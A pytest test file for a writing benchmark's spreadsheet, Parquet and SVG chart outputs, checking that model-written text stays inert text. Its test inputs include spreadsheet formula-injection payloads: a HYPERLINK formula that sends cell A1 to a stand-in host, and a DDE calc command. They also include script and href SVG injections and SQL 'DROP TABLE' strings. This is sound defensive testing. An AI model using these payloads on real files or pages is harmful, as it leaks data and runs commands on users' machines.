"""Spreadsheets, Parquet files and charts: what was written comes back, and nothing that a model wrote does anything."""

from __future__ import annotations

import math
import random
import re
import sys
import zipfile
from collections.abc import Sequence
from itertools import pairwise
from pathlib import Path
from xml.etree import ElementTree

import duckdb
import numpy as np
import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from writingbench.records import Usage, UserError
from writingbench.reports import charts, drawing, figures, spreadsheet
from writingbench.reports.charts import Point, Row, Series
from writingbench.reports.spreadsheet import BEYOND, CUT, LONGEST, Column, Sheet, cells, fits, fitting, names
from writingbench.scores import columns
from writingbench.scores.table import STATES, Answers, Asked, Label, Marks, Paid, Table

HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "＝1+1",
    "{=1+1}",
    " =1+1",
    "<r>a</r>",  # what the library takes for XML of its own
    "<r><b>&</r>",
    "</t></si></sst>",
    "_x000D_ _x0041_",  # what the format itself uses for control characters
    "https://evil.example",
    "mailto:a@evil.example",
    "'quoted",
    "  spaces  ",
    "=1+1 中文",
    "😀",
)


def _sheet(path: Path, name: str | None = None) -> Worksheet:
    book = openpyxl.load_workbook(path)
    sheet = book[name] if name else book.worksheets[0]
    assert isinstance(sheet, Worksheet)
    return sheet


def _texts(path: Path, texts: list[str]) -> list[object]:
    rows = [(text,) for text in texts]
    spreadsheet.write([Sheet(name="t", columns=(Column(title="text", width=30),), rows=rows)], path)
    return [cell.value for cell in _sheet(path)["A"][1 : len(texts) + 1]]


@pytest.mark.parametrize("many", [False, True], ids=["shared strings", "inline strings"])
def test_a_text_stays_the_text_that_it_is_whatever_it_begins_with(
    tmp_path: Path, many: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "MANY", 0 if many else 100)
    found = _texts(tmp_path / "t.xlsx", [*HOSTILE])
    # the reader takes back the format's own escapes in shared strings only; Excel does in both
    assert [str(text).replace("_x005F_", "_") for text in found] == [*HOSTILE]
    sheet = _sheet(tmp_path / "t.xlsx")
    assert {cell.data_type for cell in sheet["A"]} == {"s"}
    with zipfile.ZipFile(tmp_path / "t.xlsx") as file:
        parts = {name: file.read(name).decode() for name in file.namelist()}
    assert "<f>" not in parts["xl/worksheets/sheet1.xml"]
    assert "<hyperlink" not in parts["xl/worksheets/sheet1.xml"]
    assert ("xl/sharedStrings.xml" in parts) is not many


def test_texts_that_look_like_formulas_stay_texts_when_they_are_edited(tmp_path: Path) -> None:
    _texts(tmp_path / "t.xlsx", [*HOSTILE])
    quoted = [cell.value for cell in _sheet(tmp_path / "t.xlsx")["A"] if cell.quotePrefix]
    assert quoted == [text for text in HOSTILE if text.strip(" \t")[0] in "=+-@＝"]


def test_titles_names_and_notes_are_texts_too(tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    spreadsheet.write([Sheet(name="=1+1", columns=(Column(title="=1+1"),), rows=[("x",)], note="=1+1\n第二行")], path)
    sheet = _sheet(path)
    assert [cell.value for cell in sheet["A"]] == ["=1+1", "x", None, "=1+1", "第二行"]
    assert {cell.data_type for cell in sheet["A"] if cell.value} == {"s"}
    assert sheet.title == "=1+1"


def test_what_xml_forbids_is_shown_by_a_sign_for_it(tmp_path: Path) -> None:
    given = ["a\x00b\x1b", "\ud83d\ude00", "half \ud800", "\uffff", "one\r\ntwo\rthree\x85"]
    assert _texts(tmp_path / "t.xlsx", given) == ["a␀b␛", "😀", "half �", "�", "one\ntwo\nthree\x85"]


def test_any_text_at_all_can_be_written(tmp_path: Path) -> None:
    chance = random.Random(3)
    every = [chr(code) for code in range(0x300)] + [chr(chance.randrange(sys.maxunicode)) for _ in range(3000)]
    texts = ["x" + "".join(chance.choices(every, k=60)) for _ in range(100)]
    assert _texts(tmp_path / "t.xlsx", texts) == [fitting(text, CUT) for text in texts]


@pytest.mark.parametrize("letter", ["b", "中", "😀", "é"])
def test_a_text_too_long_for_a_cell_says_how_much_of_it_is_missing(tmp_path: Path, letter: str) -> None:
    size = len(letter.encode("utf-16-le")) // 2
    longest = letter * (LONGEST // size)
    whole, shown = _texts(tmp_path / "t.xlsx", [longest, letter * 50_000])
    assert whole == longest
    assert isinstance(shown, str)
    assert len(shown.encode("utf-16-le")) // 2 <= LONGEST
    kept = shown.count(letter)
    assert shown == letter * kept + CUT.format(50_000 - kept)
    assert kept > LONGEST // size - 40


def test_the_longest_text_that_begins_like_the_librarys_own_xml_is_written(tmp_path: Path) -> None:
    text = "<r>" + "&" * (LONGEST - 7) + "</r>"
    assert _texts(tmp_path / "t.xlsx", [text]) == [text]


def test_names_of_sheets_are_valid_and_differ() -> None:
    wanted = [
        "a/b",
        "A:B",
        "",
        "'",
        "x" * 40,
        "x" * 40,
        "😀" * 20,
        "History",
        "中文[1]",
        "\x00",
        "a\nb",
        "Straße",
        "STRASSE",
    ]
    made = names(wanted)
    assert len({name.casefold() for name in made}) == len(wanted)
    for name in made:
        assert 0 < len(name.encode("utf-16-le")) // 2 <= 31
        assert not set(name) & set("[]:*?/\\")
        assert name.strip("'") == name
    assert made[:2] == ["a-b", "A-B (2)"]
    assert made[4:6] == ["x" * 30 + "…", "x" * 26 + "… (2)"]


def test_numbers_are_shown_by_their_kind_and_kept_whole(tmp_path: Path) -> None:
    kinds = ("mean", "count", "share", "chance", "money")
    row = (1 / 3, 1234, 0.5, 0.01, 0.0007)
    sheet = Sheet(name="n", columns=tuple(Column(title=kind, kind=kind) for kind in kinds), rows=[row])
    spreadsheet.write([sheet], tmp_path / "n.xlsx")
    found = _sheet(tmp_path / "n.xlsx")[2]
    assert [cell.value for cell in found] == [pytest.approx(1 / 3, rel=1e-15), 1234, 0.5, 0.01, 0.0007]
    assert [cell.number_format for cell in found] == ["0.00", "#,##0", "0.0%", "0.0000", '"$"#,##0.00##']


def test_what_is_not_known_is_blank(tmp_path: Path) -> None:
    rows = [(None, float("nan"), float("inf"), "")]
    sheet = Sheet(name="n", columns=tuple(Column(title=t, kind="mean") for t in "abcd"), rows=rows)
    spreadsheet.write([sheet], tmp_path / "n.xlsx")
    assert [cell.value for cell in _sheet(tmp_path / "n.xlsx")[2]] == [None] * 4


def test_the_header_stays_in_sight_and_filters_and_one_scale_colours_all_its_columns(tmp_path: Path) -> None:
    columns_ = (Column(title="w"), *(Column(title=t, kind="mean", scale=t != "n") for t in ("a", "n", "b")))
    rows = [("x", 1.0, 2.0, 3.0), ("y", 4.0, 5.0, 6.0)]
    spreadsheet.write([Sheet(name="s", columns=columns_, rows=rows)], tmp_path / "s.xlsx")
    sheet = _sheet(tmp_path / "s.xlsx")
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B2", "A1:D3")
    [coloured] = sheet.conditional_formatting
    assert str(coloured.sqref) == "B2:B3 D2:D3"
    colours = [colour.rgb for colour in coloured.rules[0].colorScale.color]
    assert colours == ["FF" + colour[1:] for colour in (spreadsheet.LOW, spreadsheet.MIDDLE, spreadsheet.HIGH)]
    assert all(cell.font.b and cell.alignment.wrap_text for cell in sheet[1])


def test_chinese_takes_two_columns_a_character() -> None:
    assert [cells(text) for text in ("abc", "中文", "中a。", "😀", "")] == [3, 4, 5, 2, 0]


def test_a_column_is_as_wide_as_what_stands_in_it_within_reason(tmp_path: Path) -> None:
    rows = [("短", "中文" * 10, "a" * 500)]
    sheet = Sheet(name="w", columns=tuple(Column(title=t) for t in "abc"), rows=rows)
    spreadsheet.write([sheet], tmp_path / "w.xlsx")
    found = _sheet(tmp_path / "w.xlsx")
    assert [round(found.column_dimensions[letter].width) for letter in "ABC"] == [9, 42, 61]
    assert found.row_dimensions[2].height == pytest.approx(15 * 9 + 2, abs=1)  # 500 letters on 9 lines


def test_rows_that_do_not_fit_are_counted() -> None:
    assert list(fits([("a",)] * 3, 3)) == [("a",)] * 3
    assert list(fits(([("a",)] * 4), 3)) == [("a",), ("a",), 2]
    assert list(fits(iter([("a",)] * 1000), 3)) == [("a",), ("a",), 998]
    assert list(fits([], 3)) == []


def test_a_sheet_that_does_not_hold_everything_says_so_in_its_last_row(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(spreadsheet, "ROWS", 10)
    sheet = Sheet(name="s", columns=(Column(title="t"),), rows=[(f"row {n}",) for n in range(100)], note="a\nb")
    spreadsheet.write([sheet], tmp_path / "s.xlsx")
    found = [cell.value for cell in _sheet(tmp_path / "s.xlsx")["A"]]
    assert found == ["t", *(f"row {n}" for n in range(5)), BEYOND.format(95), None, "a", "b"]


def test_a_workbook_without_sheets_rows_or_columns_can_be_opened(tmp_path: Path) -> None:
    spreadsheet.write([], tmp_path / "a.xlsx")
    spreadsheet.write([Sheet(name="s", columns=(), rows=[])], tmp_path / "b.xlsx")
    spreadsheet.write([Sheet(name="s", columns=(Column(title="t", scale=True),), rows=[])], tmp_path / "c.xlsx")
    for name in "abc":
        assert len(openpyxl.load_workbook(tmp_path / f"{name}.xlsx").worksheets) == 1


def test_the_old_file_stays_when_the_new_one_does_not_come_to_its_end(tmp_path: Path) -> None:
    path = tmp_path / "s.xlsx"
    path.write_bytes(b"old")

    def breaking() -> object:
        yield ("a",)
        raise RuntimeError("no more rows")

    with pytest.raises(RuntimeError, match="no more rows"):
        spreadsheet.write([Sheet(name="s", columns=(Column(title="t"),), rows=breaking())], path)  # type: ignore[arg-type]
    assert path.read_bytes() == b"old"
    assert [file.name for file in tmp_path.iterdir()] == ["s.xlsx"]


def test_where_no_file_can_be_the_user_is_told(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    for write in (
        lambda path: spreadsheet.write([], path),
        lambda path: spreadsheet.official(["a"], [], path),
        lambda path: columns.write([], path),
    ):
        with pytest.raises(UserError, match="cannot be written"):
            write(tmp_path / "file" / "t.xlsx")


def test_the_official_sheet_is_plain_and_keeps_every_digit(tmp_path: Path) -> None:
    chance = random.Random(5)
    rows = [["=m", None, 0.1 + 0.2], *([f"m{n}", chance.random() * 10, 7] for n in range(200))]
    spreadsheet.official(["Model", "Overall", "Count"], rows, tmp_path / "o.xlsx")
    sheet = _sheet(tmp_path / "o.xlsx", "Sheet1")
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["Model", "Overall", "Count"], *rows]
    assert not sheet["A1"].font.b
    assert sheet["A2"].data_type == "s"
    assert openpyxl.load_workbook(tmp_path / "o.xlsx").sheetnames == ["Sheet1"]


# Parquet


def label(name: str, **changed: object) -> Label:
    given = {
        "writer": name,
        "judge": "judge/法官",
        "protocol": "standard",
        "benchmark": "b",
        "prompt": "p",
        "fingerprint": f"run of {name}",
        "judge_fingerprint": "j1",
        "protocol_fingerprint": "p1",
        "benchmark_fingerprint": "b1",
        "paid": Paid(replies=3, usage=Usage(input_tokens=5), cost=0.1 + 0.2, unpriced=1),
    }
    return Label(**{**given, **changed})  # type: ignore[arg-type]


def asked(index: int, **changed: object) -> Asked:
    given = {
        "index": index,
        "domain1": "教育",
        "domain2": "Lesson 'Plan'; DROP TABLE marks",
        "language": "zh",
        "tokens": 17 * index,
        "criteria": ("字数", 'Tone of "voice"', "x", "y", "z"),
        "kinds": ("length", "style", None, None, "format"),
    }
    return Asked(**{**given, **changed})  # type: ignore[arg-type]


def made(labels: list[Label], queries: list[Asked], *, draws: int = 1, repeats: int = 1, seed: int = 0) -> Table:
    """A table in which some marks failed, some were not asked for, and some responses are none."""
    chance = np.random.default_rng(seed)
    shape = len(labels), len(queries)
    marks, answers = [], []
    failures = {kind: np.zeros(shape, np.int32) for kind in ("refused", "unreadable")}
    wanted = np.zeros(shape, np.int32)
    for writer in range(shape[0]):
        for query in range(shape[1]):
            if chance.random() < 0.1:
                continue  # never asked
            for draw in range(draws):
                state = int(chance.choice(len(STATES), p=[0.7, *[0.05] * 6]))
                answers.append((writer, query, draw, int(chance.integers(9000)) if state < 2 else 0, state))
                for criterion in range(len(queries[query].criteria)):
                    for repeat in range(repeats):
                        wanted[writer, query] += 1
                        fate = chance.random()
                        if state >= 2 or fate < 0.05:
                            failures["refused" if state >= 2 else "unreadable"][writer, query] += 1
                        elif fate > 0.1:
                            marks.append((writer, query, criterion, draw, repeat, int(chance.integers(1, 11))))
    return Table(
        labels=tuple(labels),
        queries=tuple(queries),
        marks=Marks(**dict(zip(Marks.__slots__, np.array(marks, np.int32).reshape(-1, 6).T, strict=True))),
        asked=wanted,
        failures=failures,
        answers=Answers(**dict(zip(Answers.__slots__, np.array(answers, np.int32).reshape(-1, 5).T, strict=True))),
    )


def content(table: Table) -> object:
    """All of a table, so that two can be compared whatever the order of their rows."""
    return (
        table.labels,
        table.queries,
        sorted(zip(*(getattr(table.marks, name).tolist() for name in Marks.__slots__), strict=True)),
        sorted(zip(*(getattr(table.answers, name).tolist() for name in Answers.__slots__), strict=True)),
        table.asked.tolist(),
        {kind: counts.tolist() for kind, counts in sorted(table.failures.items()) if counts.any()},
    )


@pytest.mark.parametrize(("draws", "repeats"), [(1, 1), (3, 1), (1, 2), (2, 2)])
def test_a_table_comes_back_from_parquet_as_it_was(tmp_path: Path, draws: int, repeats: int) -> None:
    queries = [asked(n, domain1=f"d{n % 3}", language="en" if n % 2 else "zh") for n in range(1, 40)]
    table = made([label("甲"), label("b"), label("'c")], queries, draws=draws, repeats=repeats)
    columns.write([table], tmp_path / "t.parquet")
    [back] = columns.read([tmp_path / "t.parquet"])
    assert content(back) == content(table)


def test_tables_of_different_rules_share_a_file_and_come_back_apart(tmp_path: Path) -> None:
    one = made([label("a"), label("b")], [asked(1), asked(2)])
    other = made([label("a", fingerprint="x", judge_fingerprint="j2")], [asked(2, domain1="other"), asked(1)], seed=1)
    columns.write([one, other], tmp_path / "t.parquet")
    assert [content(back) for back in columns.read([tmp_path / "t.parquet"])] == [content(one), content(other)]


def test_files_of_the_same_rules_are_joined(tmp_path: Path) -> None:
    one, other = made([label("a")], [asked(1), asked(2)]), made([label("b")], [asked(2), asked(3)], seed=1)
    columns.write([one], tmp_path / "1.parquet")
    columns.write([other], tmp_path / "2.parquet")
    [both] = columns.read([tmp_path / "1.parquet", tmp_path / "2.parquet"])
    assert [found.writer for found in both.labels] == ["a", "b"]
    assert [query.index for query in both.queries] == [1, 2, 3]
    assert both.asked.tolist() == [[*one.asked[0], 0], [0, *other.asked[0]]]
    assert np.array_equal(both.counts, [[*one.counts[0], 0], [0, *other.counts[0]]])


def test_the_same_run_twice_is_refused_with_both_files_named(tmp_path: Path) -> None:
    table = made([label("a")], [asked(1)])
    columns.write([table], tmp_path / "1.parquet")
    columns.write([table], tmp_path / "2.parquet")
    with pytest.raises(UserError, match=r"same run of a stands in .*1\.parquet and in .*2\.parquet"):
        columns.read([tmp_path / "1.parquet", tmp_path / "2.parquet"])
    with pytest.raises(UserError, match="same run"):
        columns.read([tmp_path / "1.parquet"] * 2)


def test_files_that_describe_a_query_differently_are_refused(tmp_path: Path) -> None:
    columns.write([made([label("a")], [asked(1)])], tmp_path / "1.parquet")
    columns.write([made([label("b")], [asked(1, domain1="x")])], tmp_path / "2.parquet")
    with pytest.raises(UserError, match=r"2\.parquet: describes query 1 otherwise"):
        columns.read([tmp_path / "1.parquet", tmp_path / "2.parquet"])


def test_a_table_without_marks_queries_or_writers_comes_back(tmp_path: Path) -> None:
    for table in (made([label("a")], [asked(1, criteria=(), kinds=())]), made([label("a")], [])):
        columns.write([table], tmp_path / "t.parquet")
        assert [content(back) for back in columns.read([tmp_path / "t.parquet"])] == [content(table)]
    for nothing in ([], [made([], [asked(1)])]):
        columns.write(nothing, tmp_path / "t.parquet")
        assert columns.read([tmp_path / "t.parquet"]) == []
    assert columns.read([]) == []


def test_a_parquet_file_answers_questions_in_sql(tmp_path: Path) -> None:
    table = made([label("a"), label("b")], [asked(n) for n in range(1, 30)])
    path = tmp_path / "t.parquet"
    columns.write([table], path)
    question = "SELECT run, avg(score), count(score), count(failure) FROM read_parquet(?) GROUP BY run ORDER BY run"
    for row, (run, mean, judged, missing) in enumerate(duckdb.execute(question, [str(path)]).fetchall()):
        marks = table.marks.score[table.marks.writer == row]
        assert (run, judged) == (table.labels[row].fingerprint, len(marks))
        assert mean == pytest.approx(marks.mean())
        assert missing == table.asked[row].sum() - len(marks)


def test_a_mark_that_could_not_be_had_says_why_and_of_which_response(tmp_path: Path) -> None:
    table = Table(
        labels=(label("a"),),
        queries=(asked(1), asked(2), asked(3)),
        marks=Marks(**dict(zip(Marks.__slots__, np.array([[0, 0, 1, 0, 0, 7]], np.int32).T, strict=True))),
        asked=np.array([[3, 2, 0]], np.int32),
        failures={"unreadable": np.array([[1, 0, 0]], np.int32), "refused": np.array([[0, 2, 0]], np.int32)},
        answers=Answers(
            **dict(zip(Answers.__slots__, np.array([[0, 0, 0, 90, 1], [0, 1, 0, 0, 2]], np.int32).T, strict=True))
        ),
    )
    columns.write([table], tmp_path / "t.parquet")
    question = """SELECT index, criterion, requirement, draw, repeat, score, failure, output_tokens, answer
        FROM read_parquet(?) ORDER BY ALL"""
    assert duckdb.execute(question, [str(tmp_path / "t.parquet")]).fetchall() == [
        (1, 'Tone of "voice"', "style", 0, 0, 7, None, 90, "cut"),
        (1, None, None, 0, None, None, "unreadable", 90, "cut"),
        (1, None, None, None, None, None, "not asked", None, None),
        (2, None, None, 0, None, None, "refused", None, "refused"),
        (2, None, None, 0, None, None, "refused", None, "refused"),
    ]
    assert [content(back) for back in columns.read([tmp_path / "t.parquet"])] == [content(table)]


@pytest.mark.parametrize(
    "name", ["x[1].parquet", "*.parquet", "a?b.parquet", "it's; DROP.parquet", "k=v/中文 x.parquet"]
)
def test_a_files_name_is_only_a_name(tmp_path: Path, name: str) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    columns.write([made([label("a")], [asked(1)])], tmp_path / name)
    columns.write([made([label("b")], [asked(1)])], tmp_path / "x1.parquet")
    columns.write([made([label("c")], [asked(1)])], tmp_path / "acb.parquet")
    [table] = columns.read([tmp_path / name])
    assert [found.writer for found in table.labels] == ["a"]


def _tampered(path: Path, select: str, metadata: dict[str, str]) -> Path:
    """The file with other rows or other metadata."""
    changed = path.with_name("changed.parquet")
    pairs = ", ".join(f"\"{key}\": '{value.replace(chr(39), chr(39) * 2)}'" for key, value in metadata.items())
    duckdb.execute(f"COPY ({select.format(repr(str(path)))}) TO '{changed}' (FORMAT parquet, KV_METADATA {{{pairs}}})")
    return changed


def test_a_file_that_is_none_of_ours_or_damaged_is_told_of_in_one_sentence(tmp_path: Path) -> None:
    path = tmp_path / "t.parquet"
    columns.write([made([label("a")], [asked(n) for n in range(1, 200)], draws=2)], path)
    good = path.read_bytes()
    found = duckdb.execute("SELECT key, value FROM parquet_kv_metadata(?)", [str(path)]).fetchall()
    metadata = {key.decode(): value.decode() for key, value in found}
    whole = "SELECT * FROM {}"

    def refused(file: Path, words: str) -> None:
        with pytest.raises(UserError, match=words) as said:
            columns.read([file])
        assert str(said.value).startswith(str(file))
        assert "\n" not in str(said.value)

    refused(tmp_path / "none.parquet", "there is no such file")
    refused(tmp_path, "there is no such file")
    (tmp_path / "text.parquet").write_text("scores\n7\n")
    refused(tmp_path / "text.parquet", "no Parquet file")
    (tmp_path / "empty.parquet").write_bytes(b"")
    refused(tmp_path / "empty.parquet", "no Parquet file")
    (tmp_path / "half.parquet").write_bytes(good[: len(good) // 2])
    refused(tmp_path / "half.parquet", "no Parquet file")
    middle = len(good) // 4
    (tmp_path / "holes.parquet").write_bytes(good[:middle] + bytes(64) + good[middle + 64 :])
    refused(tmp_path / "holes.parquet", "damaged")
    duckdb.execute(f"COPY (SELECT 1 AS x) TO '{tmp_path / 'other.parquet'}' (FORMAT parquet)")
    refused(tmp_path / "other.parquet", "not one with marks of this program")
    refused(_tampered(path, whole, {**metadata, "writingbench.format": "99"}), "has format '99'")
    refused(_tampered(path, whole, {**metadata, "writingbench.tables": "{}"}), "damaged")
    for tampering in (
        "SELECT 1 AS x",
        "SELECT * REPLACE (11::TINYINT AS score) FROM {}",
        "SELECT * REPLACE (999 AS index) FROM {}",
        "SELECT * REPLACE ('x' AS run) FROM {}",
        "SELECT * REPLACE ('none such' AS criterion) FROM {}",
        "SELECT * REPLACE (-1 AS draw) FROM {}",
        "SELECT * REPLACE (NULL AS draw) FROM {}",
        "SELECT * REPLACE ('=evil' AS failure) FROM {} WHERE failure IS NOT NULL",
        "SELECT * REPLACE ('asleep' AS answer) FROM {}",
        "SELECT * REPLACE ('seven' AS score) FROM {}",
    ):
        refused(_tampered(path, tampering, metadata), "damaged")


# charts


def point(mean: float | None, n: int = 9, thin: bool = False) -> Point:
    known = mean is not None
    return Point(mean=mean, low=mean - 0.3 if known else None, high=mean + 0.2 if known else None, n=n, thin=thin)  # type: ignore[operator]


HOSTILE_NAMES = (
    "<script>alert(1)</script>",
    "\"><image href='https://evil.example'/>",
    "]]><x/>&amp;",
    "a\x00b\x0b\ud800\uffff",
    "\u202egnirts",
    "two\nlines",
    "var(--x, url(https://evil.example))",
    "var(--ink, red)",
    "",
    "名" * 300,
)


def every_chart(names_: Sequence[str], bins: Sequence[str] = ("0–250", "250–500", "500以上")) -> dict[str, str]:
    """One chart of each sort, all with these names."""
    series = [
        Series(
            name=name,
            points=tuple(
                point(6 + (k % 5) * 0.3 - b * 0.2 if (k + b) % 4 else None, thin=b == 1) for b in range(len(bins))
            ),
            apart=tuple(point(4.0 if b else None, n=2 if b else 0) for b in range(len(bins))),
        )
        for k, name in enumerate(names_)
    ]
    rows = [
        Row(name=name, point=point(None if k == 1 else 8 - k * 0.1), note=f"#{k}", group=f"g{k // 4}")
        for k, name in enumerate(names_)
    ]
    apart = [Row(name=name, point=point(0.5 - k * 0.3)) for k, name in enumerate(names_)]
    groups = [(name, [(name, [k + 1.0 if k % 3 else None for k in range(len(names_))])]) for name in names_]
    texts = {"title": "题目 title " + "".join(names_[:1]), "note": "".join(names_[:2])}
    return {
        "curves": charts.curves(bins, series, x="x" + "".join(names_[:1]), y="y" + "".join(names_[:1]), **texts),
        "dots": charts.dots(rows, x="".join(names_[:1]), **texts),
        "differences": charts.differences(apart, **texts),
        "heatmap": charts.heatmap(names_, groups, **texts),
    }


SVG = "{http://www.w3.org/2000/svg}"


def parsed(svg: str) -> ElementTree.Element:
    return ElementTree.fromstring(svg)  # noqa: S314 - drawn a moment ago


def _inside(svg: str) -> list[str]:
    """The texts of a chart that reach beyond its edges, by the same estimate that it was drawn by."""
    root = parsed(svg)
    wide, tall = float(root.get("width", "")), float(root.get("height", ""))
    out = []
    for text in root.iter(f"{SVG}text"):
        shown, size = text.text or "", float(text.get("font-size", ""))
        length = drawing.measure(shown, size)
        x, y = float(text.get("x", "")), float(text.get("y", ""))
        back = {"start": 0.0, "middle": 0.5, "end": 1.0}[text.get("text-anchor", "start")]
        turned = re.match(r"rotate\((-?\d+)", text.get("transform", ""))
        angle = math.radians(float(turned[1]) if turned else 0)
        ends = [
            (x + math.cos(angle) * length * part, y + math.sin(angle) * length * part) for part in (-back, 1 - back)
        ]
        if not all(-1 <= a <= wide + 1 and size * 0.5 <= b <= tall for a, b in ends):
            out.append(f"{shown!r} at {ends} in {wide}x{tall}")
    return out


@pytest.mark.parametrize("count", [0, 1, 2, 8, 9, 50])
@pytest.mark.parametrize(
    "stem", ["gpt", "通义千问大模型", "Qwen/Qwen3-235B-A22B-Instruct-2507-with-a-name-that-goes-on-and-on"]
)
def test_no_text_of_a_chart_is_cut_by_its_edge(count: int, stem: str) -> None:
    for sort, svg in every_chart([f"{stem}-{k}" for k in range(count)]).items():
        assert _inside(svg) == [], sort


def test_names_at_the_ends_of_lines_do_not_touch() -> None:
    together = [Series(name=f"n{k}", points=(point(7.0), point(7.0))) for k in range(8)]
    root = parsed(charts.curves(["a", "b"], together, title="t", x="x"))
    heights = sorted(
        float(t.get("y", "")) for t in root.iter(f"{SVG}text") if (t.text or "").startswith("n") and t.text != "n"
    )
    assert len(heights) == 8
    assert min(b - a for a, b in pairwise(heights)) >= 14


def test_hostile_names_stay_texts_in_charts() -> None:
    for sort, svg in every_chart(HOSTILE_NAMES).items():
        root = parsed(svg)
        allowed = {"svg", "title", "desc", "rect", "g", "text", "line", "path", "circle", "polyline", "polygon"}
        assert {element.tag.removeprefix(SVG) for element in root.iter()} <= allowed, sort
        assert not any(name.startswith("on") or "href" in name for element in root.iter() for name in element.attrib)
        assert not any("url(" in value for element in root.iter() for value in element.attrib.values())
        assert "\u202e" not in svg
        said = " ".join(root.itertext())
        assert "<script>alert(1)</script>" in said, sort
        assert list(parsed(figures.plain(svg)).itertext()) == list(root.itertext()), sort


def test_a_chart_says_what_it_shows_without_being_seen() -> None:
    rows = [Row(name="a", point=Point(mean=7.5, low=7.0, high=8.0, n=1000)), Row(name="b", point=Point(mean=None))]
    root = parsed(charts.dots(rows, title="Overall 总分"))
    assert root.get("role") == "img"
    assert (root[0].tag, root[0].text) == (f"{SVG}title", "Overall 总分")
    assert (root[1].tag, root[1].text) == (f"{SVG}desc", "a: 7.50 [7.00, 8.00], n = 1,000")


def test_a_name_that_is_cut_keeps_both_ends_and_stands_in_full_in_the_title() -> None:
    one, other = "vendor/model-with-a-long-name-" * 3 + "A", "vendor/model-with-a-long-name-" * 3 + "B"
    assert drawing.short(one, 150, 12) != drawing.short(other, 150, 12)
    assert drawing.measure(drawing.short(one, 150, 12), 12) <= 150
    assert drawing.short("short", 150, 12) == "short"
    rows = [Row(name=name, point=point(5.0)) for name in (one, other)]
    assert charts.dots(rows, title="t").count(f"<title>{one}</title>") == 1


def test_lines_break_at_spaces_and_anywhere_in_chinese() -> None:
    assert drawing.wrapped("one two three", drawing.measure("one two ", 12), 12) == ["one two", "three"]
    assert drawing.wrapped("一二三四五", 36, 12) == ["一二三", "四五"]
    assert drawing.wrapped("", 36, 12) == []
    lines = drawing.wrapped("Antidisestablishmentarianism 中文 x", 60, 12)
    assert all(drawing.measure(line, 12) <= 60 for line in lines)


def test_thin_points_are_hollow_and_differences_that_reach_zero_too() -> None:
    def hollow(svg: str) -> int:
        return svg.count(f'fill="{drawing.PAPER}" stroke=')

    series = [Series(name="a", points=(point(5.0), point(6.0, thin=True), point(7.0, thin=True)))]
    assert hollow(charts.curves(["a", "b", "c"], series, title="t", x="x")) == 2
    sure, unsure = point(1.0), Point(mean=0.1, low=-0.1, high=0.3, n=9)
    alone = Point(mean=0.5, n=1)
    rows = [Row(name=name, point=one) for name, one in (("a", sure), ("b", unsure), ("c", alone))]
    assert hollow(charts.differences(rows, title="t")) == 2


def test_a_bin_with_nothing_breaks_the_line() -> None:
    def lines(*means: float | None) -> int:
        series = [Series(name="a", points=tuple(point(mean) for mean in means))]
        return charts.curves(["b"] * len(means), series, title="t", x="x").count("<polyline")

    assert lines(5, 6, 7, 8) == 1
    assert lines(5, 6, None, 7, 8) == 2
    assert lines(5, None, 7) == 0
    assert lines(None, None) == 0


def test_each_series_has_a_colour_and_a_shape_of_its_own() -> None:
    series = [Series(name=f"n{k}", points=(point(5.0 + k / 5),)) for k in range(charts.TOGETHER)]
    svg = charts.curves(["b"], series, title="t", x="x")
    shapes = set(re.findall(r"<g transform[^>]*><(\w+ [^>]*?) fill=\"([^\"]+)\"", svg))
    assert len({shape for shape, _ in shapes}) == len({colour for _, colour in shapes}) == charts.TOGETHER


def test_heatmap_cells_are_red_when_high_blue_when_low_and_their_numbers_can_be_read() -> None:
    def parts(colour: str) -> list[int]:
        return [int(colour[at : at + 2], 16) for at in (1, 3, 5)]

    def light(colour: str) -> float:
        linear = [
            part / 255 / 12.92 if part / 255 <= 0.04045 else ((part / 255 + 0.055) / 1.055) ** 2.4
            for part in parts(colour)
        ]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    values = [k / 10 for k in range(10, 101)]
    svg = charts.heatmap([str(k) for k in values], [("", [("row", values)])], title="t")
    cells_ = re.findall(r'height="17" fill="(#\w+)"><title>row, ([\d.]+): .*?<text[^>]* fill="(#\w+)"', svg)
    assert [float(value) for _, value, _ in cells_] == values
    low, high = parts(cells_[0][0]), parts(cells_[-1][0])
    assert low[2] > low[0]
    assert high[0] > high[2]
    for colour, _, ink in cells_:
        one, other = sorted((light(colour), light(ink)))
        assert (other + 0.05) / (one + 0.05) >= 4.5


def test_a_heatmap_of_equal_numbers_is_pale() -> None:
    svg = charts.heatmap(["a"], [("g", [("r", [7.0]), ("s", [None])])], title="t")
    assert re.findall(r'height="17" fill="(#\w+)"', svg) == ["#f7f7f7"]


def test_a_chart_follows_the_pages_colours_and_a_file_has_its_own(tmp_path: Path) -> None:
    for sort, svg in every_chart(["a", "b"]).items():
        assert "var(--ink, #1d1d1f)" in svg
        vector, pixels = figures.write(svg, tmp_path / f"{sort} 1.5")
        assert (vector.name, pixels.name) == (f"{sort} 1.5.svg", f"{sort} 1.5.png")
        text = vector.read_text("utf-8")
        assert "var(" not in text
        root = parsed(text)
        with pixels.open("rb") as file:
            header = file.read(24)
        assert header[:8] == b"\x89PNG\r\n\x1a\n"
        assert [int.from_bytes(header[at : at + 4]) for at in (16, 20)] == [
            2 * int(root.get(side, "")) for side in ("width", "height")
        ]


def test_a_chart_of_very_many_is_drawn_smaller_not_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(figures, "PIXELS", 1_000_000)
    svg = charts.heatmap([f"m{k}" for k in range(50)], [("g", [("r", [1.0] * 50)])] * 40, title="t")
    _, pixels = figures.write(svg, tmp_path / "many")
    header = pixels.read_bytes()[:24]
    wide, tall = (int.from_bytes(header[at : at + 4]) for at in (16, 20))
    assert 900_000 < wide * tall < 1_010_000


def test_whether_chinese_can_be_drawn_is_known() -> None:
    assert figures.drawable("plain – text…")
